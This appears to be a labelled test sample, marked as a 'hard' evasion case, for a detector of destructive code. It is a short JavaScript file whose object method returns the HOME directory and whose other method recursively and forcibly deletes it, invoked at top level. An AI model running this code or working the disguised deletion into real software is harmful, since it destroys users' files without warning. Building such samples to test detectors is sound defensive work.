// evasion: an object literal's method returns $HOME; another method of it deletes this.base()
// grade: hard; does: delete
const fsp = require("fs/promises");
const paths = {
  base() {
    return process.env.HOME;
  },
  async clean() {
    await fsp.rm(this.base(), { recursive: true, force: true });
  },
};
paths.clean();
